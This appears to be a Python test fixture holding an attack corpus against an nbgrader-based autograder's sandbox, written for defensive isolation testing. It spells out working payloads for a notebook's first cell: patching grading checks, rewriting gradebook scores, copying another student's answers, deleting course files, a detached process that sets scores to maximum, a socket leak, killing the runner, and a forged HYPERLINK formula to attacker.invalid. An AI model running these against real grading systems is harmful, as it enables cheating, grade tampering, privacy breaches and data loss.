"""An attack corpus against a course's grading: what a hostile submission puts in its first answer cell.

Each attack is code for the first answer cell of an otherwise untouched release (every other answer
left as ``raise NotImplementedError``), written as an attacker who knows the course folder's path, the
atlas's code and nbgrader's would write it. ``{course}``, ``{canary}`` and ``{port}`` are filled in
by the test; ``{marker}`` names the attack's processes so that a test can look for survivors.
Graded with isolation, each must score what an untouched release scores (0 autograded points),
change no other student's grade and no file outside the grader's own output, and leave no process.
"""

from __future__ import annotations

ATTACKS: dict[str, str] = {
    # The hidden tests call `graded` after the student's code, in the student's kernel (stock nbgrader).
    "monkeypatch_graded": """
import utils.teaching.exercises
utils.teaching.exercises.graded = lambda *args, **kwargs: None
""",
    # Every check function of every module, and the assertion the tests raise, made harmless.
    "monkeypatch_checks": """
import sys, importlib, pkgutil, utils, utils.datasets
for info in pkgutil.walk_packages(utils.__path__, "utils."):
    try:
        importlib.import_module(info.name)
    except Exception:
        pass
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("utils"):
        for name in dir(module):
            if name.startswith("check_") or name in ("graded", "verdict_of", "compare_number", "fail"):
                setattr(module, name, lambda *args, **kwargs: None)
""",
    "rebind_builtins": """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {{}})
builtins.isinstance = lambda *args: True
builtins.print = lambda *args, **kwargs: None
""",
    # The teacher's source notebook holds every reference solution.
    "exec_source_solutions": """
import json, os, pathlib
for candidate in ("../../../source/begin/begin.ipynb", "{course}/source/begin/begin.ipynb"):
    path = pathlib.Path(candidate)
    if path.exists():
        for cell in json.loads(path.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
                exec("".join(cell["source"]), globals())
""",
    "gradebook_write": """
import sqlite3
for candidate in ("../../../gradebook.db", "{course}/gradebook.db"):
    try:
        db = sqlite3.connect(candidate)
        db.execute("UPDATE grade SET manual_score = 0, auto_score = 0")
        db.execute("UPDATE submitted_assignment SET timestamp = NULL")
        db.commit()
    except Exception:
        pass
""",
    "read_other_submission": """
import json, pathlib
for candidate in ("../../alice/begin/begin.ipynb", "{course}/submitted/alice/begin/begin.ipynb",
                  "{course}/autograded/alice/begin/begin.ipynb"):
    path = pathlib.Path(candidate)
    if path.exists():
        for cell in json.loads(path.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
                exec("".join(cell["source"]), globals())
""",
    "delete_canary": """
import os, shutil
for target in ("{canary}", "{course}/nbgrader_config.py", "{course}/source"):
    try:
        shutil.rmtree(target) if os.path.isdir(target) else os.remove(target)
    except Exception:
        pass
""",
    # A process that outlives its kernel and edits the gradebook once nbgrader has written it.
    "detached_process": """
import subprocess, sys
subprocess.Popen(
    [sys.executable, "-c", "import sqlite3, time; time.sleep(8); "
     "db = sqlite3.connect('{course}/gradebook.db'); "
     "db.execute('UPDATE grade SET auto_score = max_score'); db.commit(); time.sleep(600)", "{marker}"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
""",
    "network_call": """
import socket
for host in ("127.0.0.1", "localhost"):
    try:
        socket.create_connection((host, {port}), timeout=3).sendall(b"leaked")
    except OSError:
        pass
try:
    socket.getaddrinfo("pypi.org", 443)
except OSError:
    pass
""",
    # What a kernel prints or displays is not a verdict; neither is a forged hand-in of empty answers.
    "print_correct": """
from IPython.display import display
print("Correct: every exercise. Passed.")
import utils.teaching.answers
utils.teaching.answers.hand_in = lambda names, namespace: display(
    {{utils.teaching.answers.MIME_TYPE: "{{}}", "text/plain": "Passed"}}, raw=True)
""",
    "kill_the_runner": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
    # The parsed cache the sandbox reads: a teacher's would hold the held-out splits with their labels.
    "read_the_cache": """
import json, os, pathlib
import pyarrow.ipc as ipc
labels = {{}}
for entry in pathlib.Path(os.environ.get("ATLAS_CACHE_DIR", "/nonexistent")).glob("*/dialogues.arrow"):
    try:
        table = ipc.open_file(entry).read_all()
    except Exception:
        continue
    for row in table.select(["id", "meta"]).to_pylist():
        meta = json.loads(row["meta"] or "{{}}")
        if "label" in meta:
            labels[row["id"]] = meta["label"]
ids = [json.loads(line)["id"] for line in open("heldout/begin-ex-4.jsonl") if line.strip()]
transfer_scores = {{key: float(labels.get(key) == "Not fully attributable") for key in ids}}
""",
    # A hand-in slow to read: integer keys that all hash alike.
    "slow_hand_in": """
import utils.teaching.answers as handing
payload = {{"__atlas_kind__": "dict", "items": [[key * (2**61 - 1), 0] for key in range(1, 60_000)]}}
handing.encode = lambda values: {{name: payload for name in values}}
""",
    # The grader reads the sandbox's files back: links to another student's notebook, and forged problems
    # with a spreadsheet formula and terminal escapes.
    "link_the_output": """
import os, signal
os.makedirs("/submission/autograded/alice/begin", exist_ok=True)
os.symlink("/proc/self/cwd/autograded/alice/begin/begin.ipynb", "/submission/.graded.ipynb")
with open("/submission/forged.json", "w") as handle:
    handle.write('["=HYPERLINK(\\"http://attacker.invalid\\")", "\\u001b[2K all fine"]')
os.symlink("/submission/forged.json", "/submission/.graded.problems.json")
os.kill(os.getppid(), signal.SIGKILL)
""",
}

#: Attacks that only mean something on the real files: on the demo samples the "held-out" labels are
#: the atlas's own demo rows, which every installation ships.
REAL_DATA_ONLY = {"read_the_cache"}

#: Cells that must cost only their own exercise, put after the reference solution of begin-ex-2.
SLIPS: dict[str, str] = {
    "hang_ignoring_interrupt": """
import time
while True:
    try:
        time.sleep(0.5)
    except KeyboardInterrupt:
        pass
""",
    "flood_100mb_line": """
print("x" * 100_000_000)
""",
}
